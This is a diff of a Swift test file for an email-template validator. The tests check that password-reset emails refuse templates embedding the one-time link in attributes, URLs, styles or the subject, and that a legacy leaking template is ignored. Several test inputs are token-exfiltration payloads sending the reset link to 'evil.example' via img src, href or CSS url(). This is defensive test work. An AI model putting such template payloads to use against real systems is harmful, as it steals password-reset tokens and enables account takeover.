@@ -87,7 +87,7 @@ struct EmailTemplateTests {
     }
 
     @Test(
-        "a security email's one-time link may be a link's whole address or text, never inside another attribute, URL or style"
+        "a security email's one-time link stands on its own (the portal's button), never in an attribute, link, URL or style"
     )
     func linkPlacement() {
         func refused(_ html: String, text: String = "Choose a new password: {{link}}") -> Bool {
@@ -95,19 +95,26 @@ struct EmailTemplateTests {
                 EmailTemplate(subject: "Reset", html: html, text: text), for: .passwordReset
             ).isEmpty
         }
-        #expect(!refused(#"<p><a class="button" href="{{link}}">Reset</a></p><p>Or paste {{link}}</p>"#))
+        #expect(!refused(#"<p>{{link}}</p><p>Or paste this address into your browser: {{link}}</p>"#))
+        // Even a link's whole address is no longer the template's to write: the button is the portal's.
+        #expect(refused(#"<p><a class="button" href="{{link}}">Reset</a></p>"#))
+        #expect(refused(#"<p><a href="https://evil.example/">{{link}}</a></p>"#))
         #expect(refused(#"<img src="https://evil.example/?{{link}}">"#))
         #expect(refused(#"<a href="https://evil.example/?t={{link}}">Reset</a>"#))
         #expect(refused(#"<p style="background:url({{link}})">Hi</p>"#))
         #expect(refused(#"<style>body { background: url({{link}}) }</style><p>Hi</p>"#))
         #expect(refused(#"<p>https://evil.example/?t={{link}}</p>"#))
-        #expect(refused(#"<p><a href="{{link}}">Reset</a></p>"#, text: "Open https://evil.example/?{{link}}"))
+        #expect(refused(#"<p>{{link}}</p>"#, text: "Open https://evil.example/?{{link}}"))
+        #expect(
+            !EmailTemplateValidator.validate(
+                EmailTemplate(subject: "Reset {{link}}", html: "<p>{{link}}</p>", text: "{{link}}"), for: .passwordReset
+            ).isEmpty, "never in the subject")
         let message =
             EmailTemplateValidator.validate(
                 EmailTemplate(subject: "Reset", html: #"<img src="https://evil.example/?{{link}}">"#, text: "{{link}}"),
                 for: .passwordReset
             ).first?.description ?? ""
-        #expect(message.contains("HTML part, line 1") && message.contains("would leak the one-time link"), "\(message)")
+        #expect(message.contains("HTML part, line 1") && message.contains("would leak it"), "\(message)")
         // Not a security email: the rule does not apply (no one-time link there).
         #expect(
             EmailTemplateValidator.validate(
@@ -115,6 +122,30 @@ struct EmailTemplateTests {
                     subject: "Order", html: #"<img src="https://cdn.example/?{{link}}">"#, text: "{{link}}"),
                 for: .orderConfirmation
             ).isEmpty)
+    }
+
+    @Test("a security template stored before today's rules, leaking its link, is not used: the default goes out")
+    func legacyLeakingOverrideIgnored() async throws {
+        try await withPortal { client, dependencies in
+            let owner = try await makeAccount(dependencies, email: "owner@acme.example", role: .owner)
+            try await makeAccount(dependencies, email: "ada@example.com")
+            let tenant = try dependencies.registryTenant("acme")
+            // Written straight to the database, as an older version of the portal could have stored it.
+            try await dependencies.databases.withDatabase(for: tenant) {
+                try await $0.emailTemplates.save(
+                    EmailTemplate(
+                        subject: "Reset", html: #"<p><img src="https://evil.example/?t={{link}}">Hi</p>"#,
+                        text: "Reset: {{link}}"),
+                    named: "password_reset", by: owner, ip: "")
+            }
+            let browser = TestBrowser(client, host: "acme.localhost")
+            try await browser.get("/forgot-password")
+            try await browser.post("/forgot-password", ["email": "ada@example.com"])
+            let mail = try #require(try await dependencies.outbox("acme").first { $0.kind == "reset_password" })
+            #expect(!(mail.htmlBody ?? "").contains("evil.example"))
+            #expect(mail.subject != "Reset")
+            #expect(mail.htmlBody?.contains(">Choose a new password</a>") == true)
+        }
     }
 
     @Test("only owners edit the security emails and the layout; a change is audited and emailed to every owner")
@@ -140,7 +171,7 @@ struct EmailTemplateTests {
                 "/admin/brand/emails/password_reset",
                 [
                     "subject": "Reset your password",
-                    "html": #"<p><a class="button" href="{{link}}">Choose a new password</a></p>"#,
+                    "html": #"<p>Choose a new password:</p><p>{{link}}</p>"#,
                     "text": "Choose a new password: {{link}}",
                 ])
             #expect(saved.status == .seeOther)
@@ -213,7 +244,7 @@ struct EmailTemplateTests {
                 "/admin/brand/emails/password_reset",
                 [
                     "subject": "Acme password help for {{recipient.name}}",
-                    "html": "<p>Fresh start: <a href=\"{{link}}\">reset</a></p>",
+                    "html": "<p>Fresh start:</p><p>{{link}}</p>",
                     "text": "Fresh start: {{link}}",
                 ]
             )
@@ -233,6 +264,10 @@ struct EmailTemplateTests {
             #expect(
                 acmeMail.htmlBody?.contains("Fresh start:") == true
                     && acmeMail.htmlBody?.contains("<!doctype html>") == true)
+            // The link is the portal's button, on the brand's primary domain, with the fixed words.
+            let html = try #require(acmeMail.htmlBody)
+            #expect(html.contains(#"<p><a class="button" href="https://portal.acme.example/reset-password?token="#))
+            #expect(html.contains(">Choose a new password</a></p>"))
             let globexMail = try #require(try await dependencies.outbox("globex").first { $0.kind == "reset_password" })
             #expect(globexMail.subject == "Reset your password — Globex Web")
             #expect(!globexMail.textBody.contains("Fresh start"))
